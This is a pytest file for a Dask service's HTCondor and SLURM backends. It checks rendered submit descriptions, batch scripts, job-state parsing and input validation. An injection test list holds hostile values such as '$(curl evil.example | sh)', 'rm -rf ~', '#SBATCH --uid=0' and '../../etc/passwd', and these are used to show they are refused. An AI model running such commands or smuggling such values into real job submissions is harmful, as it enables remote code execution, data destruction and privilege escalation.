"""The pure core of the HTCondor and SLURM backends: submit descriptions, batch scripts, job states.

The submit description and batch script are asserted exactly as dask-jobqueue renders them from our
builders' arguments: what the batch system receives. Injection attempts in every field a request
can carry either are refused with a 400 naming the field, or change nothing in that output.
"""

import json
import re

import pytest
from dask_jobqueue.htcondor import HTCondorJob
from dask_jobqueue.slurm import SLURMJob

from sciencelab.dask.backends import BACKENDS, load_backend
from sciencelab.dask.backends.htcondor import job_ids_constraint, make_htcondor_job_kwargs
from sciencelab.dask.backends.jobqueue import make_scheduler_options, worker_lifetime
from sciencelab.dask.backends.slurm import make_slurm_job_kwargs
from sciencelab.dask.batch import (
    JobState,
    WorkerJob,
    htcondor_job_state,
    make_batch_workers,
    parse_condor_jobs,
    parse_squeue_jobs,
    slurm_job_state,
    submission_refusal,
    with_log_tail,
)
from sciencelab.dask.clusters import WorkerInfo
from sciencelab.dask.connect import make_connect_code
from sciencelab.dask.credentials import TlsFiles, tls_client_recipe
from sciencelab.dask.errors import OptionError
from sciencelab.dask.options import make_option_schema, validate_options, validate_scaling
from sciencelab.dask.templates import TemplateError, make_templates

CLUSTER_ID = "0123456789ab"
SCHEDULER = "tls://10.0.0.5:8786"
PYTHON = "/cvmfs/sft.cern.ch/lcg/views/LCG_105/x86_64-el9-gcc13-opt/bin/python3"
OPTIONS = {
    "workers": {"default": 2, "minimum": 0, "maximum": 100},
    "cores": {"default": 1, "minimum": 1, "maximum": 8},
    "memory": {"default": 2, "minimum": 1, "maximum": 32},
    "gpus": {"default": 0, "minimum": 0, "maximum": 2},
    "walltime": {"default": 60, "minimum": 10, "maximum": 1440},
}
ENVIRONMENTS = [{"name": "lcg-105", "title": "LCG 105", "value": PYTHON}]


def batch_templates(log_directory, htcondor_settings=None, slurm_settings=None):
    schemas = {name: load_backend(name).settings_schema for name in BACKENDS}
    return make_templates(
        {
            "condor": {
                "backend": "htcondor",
                "options": OPTIONS,
                "environments": ENVIRONMENTS,
                "backend_settings": {
                    "log_directory": str(log_directory),
                    "interface": "ib0",
                    "accounting_group": "group_cms.analysis",
                    "job_extra_directives": {"+JobFlavour": '"espresso"'},
                    **(htcondor_settings or {}),
                },
            },
            "hpc": {
                "backend": "slurm",
                "options": OPTIONS,
                "environments": ENVIRONMENTS,
                "backend_settings": {
                    "log_directory": str(log_directory),
                    "partition": "short",
                    "account": "cms",
                    "prologue": ["source /cvmfs/cms.cern.ch/cmsset_default.sh"],
                    "job_extra_directives": ["--qos=interactive"],
                    **(slurm_settings or {}),
                },
            },
        },
        {},
        schemas,
    )


def cluster_tls(log_directory) -> TlsFiles:
    """Where the batch backends keep a cluster's certificate: beside the job logs."""
    return TlsFiles(cert=f"{log_directory}/tls-{CLUSTER_ID}/cert.pem", key=f"{log_directory}/tls-{CLUSTER_ID}/key.pem")


def submit_description(template, request, log_directory) -> str:
    """What condor_submit receives for the first worker of a cluster made with `request`."""
    options = validate_options(template, request)
    tls = cluster_tls(log_directory)
    kwargs = make_htcondor_job_kwargs(CLUSTER_ID, options, template.backend_settings, str(log_directory), tls)
    return HTCondorJob(scheduler=SCHEDULER, name=f"{CLUSTER_ID}-0", **kwargs).job_script()


def batch_script(template, request, log_directory) -> str:
    """What sbatch receives for the first worker of a cluster made with `request`."""
    options = validate_options(template, request)
    tls = cluster_tls(log_directory)
    kwargs = make_slurm_job_kwargs(CLUSTER_ID, options, template.backend_settings, str(log_directory), tls)
    return SLURMJob(scheduler=SCHEDULER, name=f"{CLUSTER_ID}-0", **kwargs).job_script()


def test_htcondor_submit_description(tmp_path):
    template = batch_templates(tmp_path)["condor"]
    assert (
        submit_description(template, {"cores": 4, "memory": 8, "gpus": 1, "walltime": 120}, tmp_path)
        == f"""\
#!/usr/bin/env condor_submit

MY.DaskWorkerName = "htcondor--$F(MY.JobId)--"
batch_name = {CLUSTER_ID}-0
RequestCpus = MY.DaskWorkerCores
RequestMemory = floor(MY.DaskWorkerMemory / 1048576)
RequestDisk = floor(MY.DaskWorkerDisk / 1024)
MY.JobId = "$(ClusterId).$(ProcId)"
MY.DaskWorkerCores = 4
MY.DaskWorkerMemory = 8589934592
MY.DaskWorkerDisk = 1073741824
LogDirectory = {tmp_path}
Output = $(LogDirectory)/worker-$F(MY.JobId).out
Error = $(LogDirectory)/worker-$F(MY.JobId).err
Log = $(LogDirectory)/worker-$(ClusterId).log
Stream_Output = True
Stream_Error = True
+JobFlavour = "espresso"
accounting_group = group_cms.analysis
request_gpus = 1
allowed_job_duration = 7200
should_transfer_files = YES
transfer_input_files = {tmp_path}/tls-{CLUSTER_ID}/cert.pem,{tmp_path}/tls-{CLUSTER_ID}/key.pem
transfer_output_files = ""
MY.SciencelabCluster = "{CLUSTER_ID}"

Arguments = "-c '{PYTHON} -m distributed.cli.dask_worker {SCHEDULER} --name {CLUSTER_ID}-0 --nthreads 4 \
--memory-limit 8.00GiB --nanny --death-timeout 60 --lifetime 6900s --resources GPU=1 --tls-ca-file cert.pem \
--tls-cert cert.pem --tls-key key.pem --interface ib0 --protocol tls://'"
Executable = /bin/sh

Queue
"""
    )


def test_htcondor_ships_the_clusters_certificate_with_each_job(tmp_path):
    template = batch_templates(tmp_path, {"container_image": "docker://coffeateam/coffea-dask:latest", "disk": 4})[
        "condor"
    ]
    tls = cluster_tls(tmp_path)
    lines = submit_description(template, {}, tmp_path).splitlines()
    assert lines[10:11] + lines[17:28] == [
        "MY.DaskWorkerDisk = 4294967296",
        '+JobFlavour = "espresso"',
        "accounting_group = group_cms.analysis",
        "universe = container",
        "container_image = docker://coffeateam/coffea-dask:latest",
        "allowed_job_duration = 3600",
        "should_transfer_files = YES",
        f"transfer_input_files = {tls.cert},{tls.key}",
        'transfer_output_files = ""',
        f'MY.SciencelabCluster = "{CLUSTER_ID}"',
        "",
        # In the job's scratch directory the files are found by name.
        f"Arguments = \"-c '{PYTHON} -m distributed.cli.dask_worker {SCHEDULER} --name {CLUSTER_ID}-0 --nthreads 1 "
        "--memory-limit 2.00GiB --nanny --death-timeout 60 --lifetime 3300s --tls-ca-file cert.pem --tls-cert cert.pem "
        "--tls-key key.pem --interface ib0 --protocol tls://'\"",
    ]


def test_slurm_batch_script(tmp_path):
    template = batch_templates(tmp_path)["hpc"]
    assert (
        batch_script(template, {"cores": 4, "memory": 8, "gpus": 2, "walltime": 90}, tmp_path)
        == f"""\
#!/usr/bin/env bash

#SBATCH -J sciencelab-{CLUSTER_ID}
#SBATCH -e {tmp_path}/sciencelab-{CLUSTER_ID}-%J.err
#SBATCH -o {tmp_path}/sciencelab-{CLUSTER_ID}-%J.out
#SBATCH -p short
#SBATCH -A cms
#SBATCH -n 1
#SBATCH --cpus-per-task=4
#SBATCH --mem=8G
#SBATCH -t 90
#SBATCH --qos=interactive
#SBATCH --gres=gpu:2
source /cvmfs/cms.cern.ch/cmsset_default.sh
{PYTHON} -m distributed.cli.dask_worker {SCHEDULER} --name {CLUSTER_ID}-0 --nthreads 4 --memory-limit 8.00GiB \
--nanny --death-timeout 60 --lifetime 5100s --resources GPU=2 --tls-ca-file {tmp_path}/tls-{CLUSTER_ID}/cert.pem \
--tls-cert {tmp_path}/tls-{CLUSTER_ID}/cert.pem --tls-key {tmp_path}/tls-{CLUSTER_ID}/key.pem --protocol tls://
"""
    )


def test_slurm_jobs_read_the_certificate_on_the_shared_file_system(tmp_path):
    template = batch_templates(tmp_path)["hpc"]
    tls = cluster_tls(tmp_path)
    assert batch_script(template, {}, tmp_path).splitlines()[-1] == (
        f"{PYTHON} -m distributed.cli.dask_worker {SCHEDULER} --name {CLUSTER_ID}-0 --nthreads 1 --memory-limit "
        f"2.00GiB --nanny --death-timeout 60 --lifetime 3300s --tls-ca-file {tls.cert} --tls-cert {tls.cert} "
        f"--tls-key {tls.key} --protocol tls://"
    )


# What a hostile request puts into fields: extra submit commands, another queue statement, SBATCH
# lines, shell metacharacters, ClassAd and path tricks.
INJECTIONS = [
    "1\n+Requirements = True",
    "lcg-105\nqueue 1000",
    "2\n#SBATCH --uid=0",
    "lcg-105; rm -rf ~",
    "$(curl evil.example | sh)",
    "`id`",
    "lcg-105' && touch /tmp/pwned && '",
    '"; +AccountingGroup = "group_admin',
    "../../etc/passwd",
    "8\r\nallowed_job_duration = 999999",
]
FIELDS = [
    "workers",
    "cores",
    "memory",
    "gpus",
    "walltime",
    "idle_timeout",
    "adaptive",
    "adapt_minimum",
    "adapt_maximum",
    "environment",
    "+Requirements",
    "job_extra_directives",
    "partition",
    "queue",
    "account",
    "log_directory",
    "prologue",
]


@pytest.mark.parametrize("injection", INJECTIONS)
def test_injection_attempts_are_refused_and_change_nothing(tmp_path, injection):
    templates = batch_templates(tmp_path)
    baseline = submit_description(templates["condor"], {}, tmp_path), batch_script(templates["hpc"], {}, tmp_path)
    for field in FIELDS:
        for value in (injection, [injection], {"value": injection}, {injection: 1}):
            for name, render in (("condor", submit_description), ("hpc", batch_script)):
                with pytest.raises(OptionError) as error:
                    render(templates[name], {field: value}, tmp_path)
                assert error.value.status_code == 400 and error.value.details["field"] == field, error.value.message
        # As a key, with a harmless value.
        with pytest.raises(OptionError):
            validate_options(templates["condor"], {injection: 1})
        for body in ({"workers": injection}, {"adapt": {"minimum": 0, "maximum": injection}}):
            with pytest.raises(OptionError):
                validate_scaling(templates["hpc"], body)
    assert (
        submit_description(templates["condor"], {}, tmp_path),
        batch_script(templates["hpc"], {}, tmp_path),
    ) == baseline


def test_only_validated_numbers_and_listed_choices_reach_the_script(tmp_path):
    template = batch_templates(tmp_path)["condor"]
    options = validate_options(template, {"workers": 3, "cores": 2, "memory": 1.5, "walltime": 30})
    assert options.to_json() == {
        "workers": 3,
        "cores": 2,
        "memory": 1.5,
        "gpus": 0,
        "idle_timeout": 60.0,
        "walltime": 30,
        "adaptive": False,
        "adapt_minimum": 0,
        "adapt_maximum": 100,
        "environment": "lcg-105",
    }
    description = submit_description(template, {"memory": 1.5}, tmp_path)
    assert "MY.DaskWorkerMemory = 1610612736" in description and "--memory-limit 1.50GiB" in description


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (
            {"partition": "short\n#SBATCH --uid=0"},
            "backend_settings.partition: 'short\\n#SBATCH --uid=0' should not be "
            "valid under {'pattern': '[\\\\r\\\\n]'}",
        ),
        ({"job_extra_directives": ["--qos=a\n#SBATCH --uid=0"]}, "backend_settings.job_extra_directives.0: "),
        ({"job_extra_directives": ["qos=a"]}, "backend_settings.job_extra_directives.0: 'qos=a' does not match '^-'"),
        ({"prologue": ["module load x\nrm -rf /"]}, "backend_settings.prologue.0: "),
        ({"log_directory": "logs"}, "backend_settings.log_directory: 'logs' does not match '^/'"),
        ({"queue": "short"}, "backend_settings: Additional properties are not allowed ('queue' was unexpected)"),
    ],
)
def test_admin_settings_that_could_break_a_batch_script_stop_the_start(tmp_path, settings, message):
    with pytest.raises(TemplateError) as error:
        batch_templates(tmp_path, slurm_settings=settings)
    assert str(error.value).startswith(f"the Dask configuration: template 'hpc': {message}")


def test_htcondor_directive_names_must_be_submit_commands(tmp_path):
    with pytest.raises(TemplateError, match=re.escape("template 'condor': backend_settings.job_extra_directives")):
        batch_templates(tmp_path, {"job_extra_directives": {"queue 5\nexecutable": "/bin/sh"}})


def test_walltime_is_an_option_of_batch_templates_only(tmp_path):
    templates = batch_templates(tmp_path)
    assert make_option_schema(templates["hpc"])["properties"]["walltime"] == {
        "type": "integer",
        "title": "Walltime",
        "description": "10 to 1440 minutes per worker job",
        "minimum": 10,
        "maximum": 1440,
        "default": 60,
    }
    local = make_templates({"local": {"backend": "local"}}, {}, {"local": {}})["local"]
    assert "walltime" not in make_option_schema(local)["properties"]
    assert validate_options(local, {}).walltime is None and "walltime" not in validate_options(local, {}).to_json()
    with pytest.raises(
        TemplateError,
        match=re.escape(
            "template 'local': options.walltime: the local backend has no walltime; only htcondor, slurm templates do"
        ),
    ):
        make_templates({"local": {"backend": "local", "options": {"walltime": {"maximum": 60}}}}, {}, {"local": {}})


def test_workers_retire_before_the_walltime():
    assert [worker_lifetime(minutes) for minutes in (1, 10, 60, 1440)] == [1, 540, 3300, 86100]


def test_scheduler_options():
    options = validate_options(batch_templates("/logs")["hpc"], {})
    assert make_scheduler_options(options, {"scheduler_host": "0.0.0.0"}) == {
        "dashboard_address": "127.0.0.1:0",
        "host": "0.0.0.0",
        "idle_timeout": "3600s",
    }


def test_tls_connect_code():
    assert make_connect_code(tls_client_recipe("tls://10.0.0.5:8786", TlsFiles("/l/cert.pem", "/l/key.pem"))) == (
        "from dask.distributed import Client, Security\n"
        "security = Security(tls_ca_file='/l/cert.pem', tls_client_cert='/l/cert.pem', tls_client_key='/l/key.pem', "
        "require_encryption=True)\n"
        "client = Client('tls://10.0.0.5:8786', security=security)\n"
        "client\n"
    )


def test_htcondor_job_states():
    assert htcondor_job_state({"JobStatus": 1}) == JobState("queued", "Idle")
    assert htcondor_job_state({"JobStatus": 1, "LastRejMatchReason": "no match found "}) == JobState(
        "queued", "Idle", "HTCondor found no slot for it: no match found"
    )
    assert htcondor_job_state({"JobStatus": 2}) == JobState("running", "Running")
    assert htcondor_job_state(
        {"JobStatus": 5, "HoldReason": "Job exceeded memory", "HoldReasonCode": 34, "HoldReasonSubCode": 0}
    ) == JobState("held", "Job exceeded memory", "HoldReasonCode 34, HoldReasonSubCode 0")
    assert htcondor_job_state({"JobStatus": 4, "ExitCode": 0}) == JobState("finished", "exit code 0")
    assert htcondor_job_state({"JobStatus": 4, "ExitCode": 127}) == JobState("failed", "exit code 127")
    assert htcondor_job_state({"JobStatus": 4, "ExitBySignal": True, "ExitSignal": 9}) == JobState(
        "failed", "killed by signal 9"
    )
    assert htcondor_job_state({"JobStatus": 3, "RemoveReason": "via condor_rm (by user alice)"}) == JobState(
        "failed", "Removed", "via condor_rm (by user alice)"
    )


def test_condor_q_output():
    # condor_q prints nothing when no job matches, condor_history an empty list.
    assert parse_condor_jobs("") == parse_condor_jobs("[\n]\n") == {}
    output = json.dumps(
        [
            {"ClusterId": 12, "ProcId": 0, "JobStatus": 1},
            {
                "ClusterId": 13,
                "ProcId": 0,
                "JobStatus": 5,
                "HoldReason": "Error from slot1: x",
                "HoldReasonCode": 9,
                "HoldReasonSubCode": 0,
            },
        ]
    )
    assert parse_condor_jobs(output) == {
        "12.0": JobState("queued", "Idle"),
        "13.0": JobState("held", "Error from slot1: x", "HoldReasonCode 9, HoldReasonSubCode 0"),
    }
    assert (
        job_ids_constraint(["12.0", "13.1"]) == "(ClusterId == 12 && ProcId == 0) || (ClusterId == 13 && ProcId == 1)"
    )
    with pytest.raises(ValueError):
        job_ids_constraint(["12.0 || true"])


def test_slurm_job_states():
    # `squeue --noheader --Format=JobID:|,State:|,Reason:|,exit_code:|` as SLURM 22.05 prints it.
    output = (
        "7|PENDING|Resources|0|\n8|PENDING|JobHeldUser|0|\n9|RUNNING|None|0|\n10|COMPLETED|None|0|\n"
        "11|FAILED|NonZeroExitCode|768|\n12|TIMEOUT|TimeLimit|0|\n13|CANCELLED|None|0|\n14|PENDING|None|0|\n"
    )
    assert parse_squeue_jobs(output) == {
        "7": JobState("queued", "Resources", "PENDING (Resources)"),
        "8": JobState("held", "JobHeldUser", "PENDING (JobHeldUser)"),
        "9": JobState("running", "Running"),
        "10": JobState("finished", "exit code 0"),
        "11": JobState("failed", "exit code 3", "FAILED (NonZeroExitCode)"),
        "12": JobState("failed", "TIMEOUT", "TIMEOUT (TimeLimit)"),
        "13": JobState("failed", "CANCELLED"),
        "14": JobState("queued", "PENDING"),
    }
    assert slurm_job_state("COMPLETED", "None", "9") == JobState("failed", "killed by signal 9", "COMPLETED")


def test_a_refused_submission_is_a_failed_worker_with_the_batch_systems_words():
    # dask-jobqueue's RuntimeError for sbatch exiting 1 on an impossible memory request.
    message = (
        "Command exited with non-zero exit code.\nExit code: 1\nCommand:\nsbatch /tmp/tmpx.sh\nstdout:\n\n"
        "stderr:\nsbatch: error: Memory specification can not be satisfied\n"
        "sbatch: error: Batch job submission failed: Requested node configuration is not available\n\n"
    )
    assert submission_refusal(message) == JobState(
        "failed",
        "Memory specification can not be satisfied",
        "Memory specification can not be satisfied\n"
        "Batch job submission failed: Requested node configuration is not available",
    )


def test_a_failed_jobs_detail_ends_with_its_error_log():
    log = "".join(f"line {n}\n" for n in range(30))
    state = with_log_tail(JobState("failed", "exit code 1", "FAILED (NonZeroExitCode)"), log)
    assert state.detail == "FAILED (NonZeroExitCode)\nLast lines of the error log:\n" + "\n".join(
        f"line {n}" for n in range(20, 30)
    )
    assert with_log_tail(JobState("failed", "exit code 1"), "") == JobState("failed", "exit code 1")


def test_workers_of_a_batch_cluster():
    connected = [WorkerInfo(name="c-0", state="connected", address="tcp://10.0.0.7:4000", threads=2)]
    jobs = [
        WorkerJob("c-0", "12.0", JobState("running", "Running")),
        WorkerJob("c-1", "13.0", JobState("queued", "Idle", "HTCondor found no slot for it: no match found")),
        WorkerJob("c-2", "14.0"),
        WorkerJob("c-3"),
        WorkerJob("c-4", None, JobState("failed", "Memory specification can not be satisfied")),
    ]
    assert make_batch_workers(jobs, connected) == [
        WorkerInfo(
            name="c-0", state="connected", address="tcp://10.0.0.7:4000", threads=2, job_id="12.0", log="job 12.0"
        ),
        WorkerInfo(
            name="c-1",
            state="queued",
            reason="Idle",
            detail="HTCondor found no slot for it: no match found",
            job_id="13.0",
            log="job 13.0",
        ),
        WorkerInfo(name="c-2", state="queued", reason="Submitted", job_id="14.0", log="job 14.0"),
        WorkerInfo(name="c-3", state="pending", reason="Submitting"),
        WorkerInfo(name="c-4", state="failed", reason="Memory specification can not be satisfied"),
    ]
